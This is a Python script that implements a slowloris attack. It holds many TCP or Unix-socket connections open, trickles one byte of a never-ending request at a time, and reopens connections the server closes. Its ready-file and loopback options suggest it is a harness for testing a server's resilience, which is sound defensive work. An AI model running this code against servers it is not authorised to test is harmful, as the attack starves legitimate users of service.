#!/usr/bin/env python3
"""trickle.py - hostile clients that trickle (slowloris).

Holds CLIENTS connections to a TCP address or a Unix socket; each sends
one byte of a request line that never ends every GAP seconds, and is
opened again when the server closes it.  After SECONDS, prints
"cut N" (connections the server closed) and "opened N", and exits.  A
server that waits for a whole request from each client in turn, or lets
tricklers keep every slot, stops serving others while this runs.

Usage: trickle.py (--tcp HOST:PORT [--source ADDR] | --unix PATH)
                  [--clients 100] [--seconds 6] [--gap 0.5] [--ready FILE]
--source ADDR: connect from this address (127.0.0.2: another host to a
server on loopback).  --ready FILE: created once every client is
connected.  A client cut is opened again after 50 ms.
"""
import argparse
import selectors
import socket
import time


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--tcp")
    ap.add_argument("--unix")
    ap.add_argument("--source")
    ap.add_argument("--clients", type=int, default=100)
    ap.add_argument("--seconds", type=float, default=6)
    ap.add_argument("--gap", type=float, default=0.5)
    ap.add_argument("--ready")
    args = ap.parse_args()

    def connect():
        if args.tcp:
            host, port = args.tcp.rsplit(":", 1)
            s = socket.create_connection((host, int(port)), timeout=5,
                                         source_address=(args.source, 0) if args.source else None)
        else:
            s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
            s.settimeout(5)
            s.connect(args.unix)
        s.setblocking(False)
        return s

    sel = selectors.DefaultSelector()
    socks = []
    again = []  # times at which a cut client is opened again

    def open_one():
        """One more client; 1 when it connected, 0 when it could not."""
        try:
            s = connect()
        except OSError:
            return 0
        socks.append(s)
        sel.register(s, selectors.EVENT_READ)
        return 1

    cut = 0
    opened = sum(open_one() for _ in range(args.clients))
    if args.ready:
        open(args.ready, "w").close()
    payload = b"GET /metrics" if args.tcp else b"QUERY_FLOWS"
    end = time.monotonic() + args.seconds
    step = 0
    next_byte = time.monotonic()
    while time.monotonic() < end:
        now = time.monotonic()
        if now >= next_byte:
            for s in list(socks):
                try:
                    s.send(payload[step % len(payload):step % len(payload) + 1])
                except BlockingIOError:
                    pass
                except OSError:
                    pass  # seen as closed when read
            step += 1
            next_byte = now + args.gap
        wake = min(next_byte, end, again[0] if again else end)
        for key, _ in sel.select(timeout=max(0.0, wake - time.monotonic())):
            s = key.fileobj
            try:
                data = s.recv(4096)
            except BlockingIOError:
                continue
            except OSError:
                data = b""
            if data:
                continue  # a FAIL line or a response: the close follows
            cut += 1
            sel.unregister(s)
            s.close()
            socks.remove(s)
            again.append(time.monotonic() + 0.05)
        while again and again[0] <= time.monotonic():
            again.pop(0)
            opened += open_one()
    for s in socks:
        s.close()
    print(f"cut {cut}")
    print(f"opened {opened}")


if __name__ == "__main__":
    main()
